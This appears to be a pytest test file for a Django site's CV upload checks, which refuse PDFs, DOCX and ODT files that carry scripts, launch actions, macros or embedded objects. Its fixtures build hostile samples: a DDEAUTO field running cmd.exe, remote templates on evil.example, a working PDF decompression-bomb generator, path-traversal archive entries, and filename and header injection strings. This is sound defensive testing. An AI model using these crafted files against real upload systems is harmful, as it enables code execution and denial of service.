"""A CV is text and pictures, and nothing that runs, reaches out or unpacks to more than it seems."""

import zlib

import pikepdf
import pytest
from django.core.files import File
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import DatabaseError
from pikepdf import Array, AttachedFileSpec, Dictionary, Encryption, Name, String

from aapm_site.core.files import pdf_parts, private
from aapm_site.core.files.office_checks import check_office
from aapm_site.core.files.pdf_checks import check_pdf
from aapm_site.core.files.upload_checks import FileRefused
from careers.domain import cv
from careers.forms.cv import CvField
from tests.careers.cvs import MAIN, changed_pdf, docx_cv, odt_cv, packed, pdf_cv, relation

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
VBA = OLE + "VBA".encode("utf-16-le")
MACRO_TYPE = "application/vnd.ms-word.document.macroEnabled.main+xml"
BASIC = '<library:libraries xmlns:library="http://openoffice.org/2000/library"/>'
ZEROS = bytes(70 * 1024 * 1024)


@pytest.mark.parametrize(("content", "name"), [
    (pdf_cv(), "Jane Roe.PDF"),
    (docx_cv(relations=relation("hyperlink", "https://example.org/jane")), "cv.docx"),
    # Word's own templates for CVs leave the way to themselves on the writer's disk.
    (docx_cv(relations=relation("attachedTemplate", r"file:///C:\Users\jane\Resume.dotx")), "cv.docx"),
    (odt_cv(body='<text:a xlink:href="https://example.org/jane"/><draw:image xlink:href="Pictures/1.png"/>'), "cv.odt"),
    (odt_cv(meta='<m:template xlink:href="../../home/jane/.config/libreoffice/CV.ott"/>'), "cv.odt"),
])  # fmt: skip
def test_a_plain_cv_is_taken(content, name):
    assert cv.check_cv(content, name).ending == name.rsplit(".", 1)[-1].lower()


# --- PDF --------------------------------------------------------------------------------------------------------------


def with_script(pdf):
    pdf.Root.OpenAction = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))


def with_hidden_script(pdf):
    inner = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))
    pdf.Root.Names = Dictionary(Deep=Array([Array([Dictionary(More=inner)])]))


def with_launch(pdf):
    action = Dictionary(S=Name.Launch, F=String("cmd.exe"))
    pdf.pages[0].Annots = Array([Dictionary(Subtype=Name.Link, Rect=[0, 0, 9, 9], A=action)])


def with_attachment(pdf):
    pdf.attachments["more.exe"] = AttachedFileSpec(pdf, b"MZ", filename="more.exe")


def with_attachment_on_a_page(pdf):
    file = Dictionary(Type=Name.Filespec, F=String("a.exe"), EF=Dictionary(F=pdf.make_stream(b"MZ")))
    pdf.pages[0].Annots = Array([Dictionary(Subtype=Name.FileAttachment, Rect=[0, 0, 9, 9], FS=file)])


def with_xfa(pdf):
    pdf.Root.AcroForm = Dictionary(Fields=Array([]), XFA=pdf.make_stream(b"<xdp/>"))


def unchanged(pdf):
    pass


@pytest.mark.parametrize(("change", "saving", "found"), [
    (unchanged, {}, []),
    (with_script, {}, ["script"]),
    (with_hidden_script, {"object_stream_mode": pikepdf.ObjectStreamMode.generate}, ["script"]),
    (with_launch, {}, ["launch"]),
    (with_attachment, {}, ["attachment"]),
    (with_attachment_on_a_page, {}, ["attachment"]),
    (with_xfa, {}, ["form"]),
    (unchanged, {"encryption": Encryption(owner="own", user="secret")}, ["password"]),
    (unchanged, {"encryption": Encryption(owner="own", user="")}, ["password"]),
])  # fmt: skip
def test_what_a_pdf_holds_besides_its_pages_is_found(change, saving, found):
    assert pdf_parts.found_in(changed_pdf(change, **saving)) == found


def bomb() -> bytes:
    """A PDF of a megabyte whose list of objects unpacks to a gigabyte."""
    packing = zlib.compressobj(9)
    lists = packing.compress(b"2 0 ") + b"".join(packing.compress(bytes([32]) * 2**20) for _ in range(1024))
    lists += packing.compress(b"<</A 1>>") + packing.flush()
    head = b"%PDF-1.5\n1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n"
    stream = b"3 0 obj\n<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>\nstream\n" % len(lists)
    body = head + stream + lists + b"\nendstream\nendobj\n"
    offsets = [(0, 0), (1, 9), (2, 3), (1, len(head)), (1, len(body))]
    table = b"".join(bytes([kind]) + offset.to_bytes(4, "big") + b"\0" for kind, offset in offsets)
    says = b"4 0 obj\n<</Type/XRef/Size 5/W[1 4 1]/Root 1 0 R/Length %d>>\nstream\n" % len(table)
    return body + says + table + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % len(body)


@pytest.mark.parametrize(("content", "words"), [
    (changed_pdf(with_script), "holds a script (JavaScript)"),
    (bomb(), "is damaged"),
    (pdf_cv()[:-200], "is damaged"),
    (pdf_cv() + packed(("evil.class", b"\xca\xfe\xba\xbe")), "something else at the same time"),
    (pdf_cv().replace(b"\n", b"\n%<script>alert(1)</script>\n", 1), "something else at the same time"),
    (b"<html><script>alert(1)</script></html>", "not that of a PDF"),
])  # fmt: skip
def test_a_pdf_that_is_more_than_pages_is_refused_with_what_to_do(content, words):
    with pytest.raises(FileRefused, match="Please") as refused:
        check_pdf(content)

    assert words in str(refused.value)


# --- DOCX and ODT -----------------------------------------------------------------------------------------------------


def lying() -> bytes:
    """An ODT whose directory says that a part is small, while far more comes out."""
    honest = odt_cv(("Pictures/1.png", ZEROS))
    return honest.replace(len(ZEROS).to_bytes(4, "little"), (1_000).to_bytes(4, "little"))


def field(*letters: str) -> str:
    """A field of Word whose instruction is cut into pieces."""
    begin = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
    return begin + "".join(f"<w:r><w:instrText>{letter}</w:instrText></w:r>" for letter in letters)


@pytest.mark.parametrize(("content", "words"), [
    # Macros, under any name.
    (docx_cv(types=f'<Override PartName="/word/other.xml" ContentType="{MACRO_TYPE}"/>'), "macros"),
    (docx_cv(("word/settings2.bin", VBA)), "macros"),
    (docx_cv(types='<Default Extension="jpg" ContentType="application/vnd.ms-office.vbaProject"/>'), "macros"),
    (docx_cv(relations=relation("vbaProject", "theme.xml", "Internal")), "macros"),
    # Templates and pictures from elsewhere, and fields that fetch.
    (docx_cv(relations=relation("attachedTemplate", "https://evil.example/t.dotm")), "from elsewhere"),
    (docx_cv(relations=relation("attachedTemplate", r"\\evil.example\share\t.dotm")), "from elsewhere"),
    (docx_cv(relations=relation("attachedTemplate", r"file://evil.example/share/t.dotm")), "from elsewhere"),
    (docx_cv(relations=relation("image", "https://evil.example/seen.png")), "from elsewhere"),
    (docx_cv(body=field("D", "DEAU", 'TO c:\\\\cmd.exe "/k calc"')), "from elsewhere"),
    # What is embedded.
    (docx_cv(relations=relation("oleObject", "embeddings/1.bin", "Internal")), "embedded"),
    (docx_cv(relations=relation("aFChunk", "chunk.html", "Internal")), "embedded"),
    (docx_cv(("word/media/image1.png", OLE)), "embedded"),
    (docx_cv(("word/media/image1.png", b"MZ" + bytes(100))), "embedded"),
    # Archives that are no honest ones.
    (docx_cv(("word/media/1.png", ZEROS)), "unpacks to far more"),
    (docx_cv(*[(f"word/{number}.txt", b"") for number in range(1_000)]), "unpacks to far more"),
    (docx_cv(body="<w:p/>" * 100_001), "unpacks to far more"),
    (docx_cv(("../../etc/cron.d/evil", b"x")), "names that no word processor gives"),
    (docx_cv(("word\\..\\evil", b"x")), "names that no word processor gives"),
    (docx_cv(("WORD/document.xml", b"<a/>")), "names that no word processor gives"),
    (docx_cv(("word/more.xml", '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>')), "codes of its own"),
    (docx_cv(("word/more.xml", b"<a>")), "damaged"),
    (docx_cv()[:-30], "damaged"),
    (b"PK\x03\x04 and nothing more", "damaged"),
    (docx_cv() + b"<script>alert(1)</script>", "two kinds of files"),
    (docx_cv() + docx_cv(), "two kinds of files"),
    (OLE, "protected by a password, or it is an older kind"),
    (pdf_cv(), "not that of a DOCX"),
    (odt_cv(), "not that of a .docx"),
    (packed(("[Content_Types].xml", MAIN), ("mimetype", "application/vnd.oasis.opendocument.text")), "two kinds"),
])  # fmt: skip
def test_a_docx_that_is_more_than_text_is_refused_with_what_to_do(content, words):
    refused_with(words, content, "docx")


@pytest.mark.parametrize(("content", "words"), [
    (odt_cv(("Basic/script-lc.xml", BASIC)), "macros"),
    (odt_cv(("Scripts/python/run.py", b"import os")), "macros"),
    (odt_cv(("other/name.dat", BASIC)), "macros"),
    (odt_cv(body='<script:event-listener xlink:href="vnd.sun.star.script:a"/>'), "macros"),
    (odt_cv(body='<draw:object xlink:href="./Object 1"/>'), "embedded"),
    (odt_cv(body='<draw:object-ole xlink:href="./Object 1"/>'), "embedded"),
    (odt_cv(("Object 1", OLE)), "embedded"),
    (odt_cv(body='<draw:image xlink:href="https://evil.example/seen.png"/>'), "from elsewhere"),
    (odt_cv(body='<draw:image xlink:href="../seen.png"/>'), "from elsewhere"),
    (odt_cv(meta='<m:template xlink:href="https://evil.example/t.ott"/>'), "from elsewhere"),
    (odt_cv(meta='<m:template xlink:href="//evil.example/t.ott"/>'), "from elsewhere"),
    (odt_cv(manifest="<m:file-entry><m:encryption-data/></m:file-entry>"), "password"),
    (odt_cv(("Pictures/1.png", ZEROS)), "unpacks to far more"),
    (lying(), "damaged"),
    (odt_cv(("../evil.xml", b"<a/>")), "names that no word processor gives"),
    (docx_cv(), "not that of a .odt"),
])  # fmt: skip
def test_an_odt_that_is_more_than_text_is_refused_with_what_to_do(content, words):
    refused_with(words, content, "odt")


def refused_with(words, content, ending):
    with pytest.raises(FileRefused, match="Please") as refused:
        check_office(content, ending)

    assert words in str(refused.value)


# --- any of them ------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(("content", "name", "words"), [
    (b"", "cv.pdf", "This file is empty."),
    (bytes(cv.LARGEST + 1), "cv.pdf", "larger than 5 MB"),
    (b"MZ", "cv.exe", "PDF, DOCX or ODT"),
    (docx_cv(), "cv.docm", "PDF, DOCX or ODT"),
    (pdf_cv(), "cv", "PDF, DOCX or ODT"),
])  # fmt: skip
def test_the_field_says_why_a_file_is_not_taken(content, name, words):
    form = CvField()
    with pytest.raises(Exception, match=words):
        form.clean(SimpleUploadedFile(name, content))


@pytest.mark.parametrize(("sent", "kept"), [
    ("../../../etc/passwd.pdf", "passwd.pdf"),
    (r"..\..\boot.pdf", "boot.pdf"),
    ("C:\\Users\\jane\\CV.pdf", "CV.pdf"),
    ("cv\u202efdp.exe\0.pdf", "cvfdp.exe.pdf"),
    ("a\r\nSet-Cookie: b.pdf", "a Set-Cookie b.pdf"),
    ('<b>"my|cv?*".pdf', "bmycv.pdf"),
    ("x" * 300 + ".docx", "x" * 95 + ".docx"),
])  # fmt: skip
def test_of_a_name_the_file_itself_is_kept(sent, kept):
    assert cv.plain_name(sent) == kept


class CutConnection(File):
    """What a browser sends that goes away in the middle."""

    size = 1_000

    def read(self, *_):
        raise OSError("The connection was cut.")


def stored_files():
    return set(private.storage().listdir(cv.FOLDER)[1]) if private.storage().exists(cv.FOLDER) else set()


def test_what_is_cut_off_or_cannot_be_written_leaves_no_file(db):
    before = stored_files()
    with pytest.raises(OSError, match="cut"):
        CvField().clean(CutConnection(None, "cv.pdf"))
    with pytest.raises(DatabaseError):
        keep_and_fail()
    assert stored_files() == before


def keep_and_fail():
    with cv.stored(cv.CheckedCv("cv.pdf", "pdf", b"%PDF-")) as name:
        assert private.storage().size(name) == 5
        raise DatabaseError
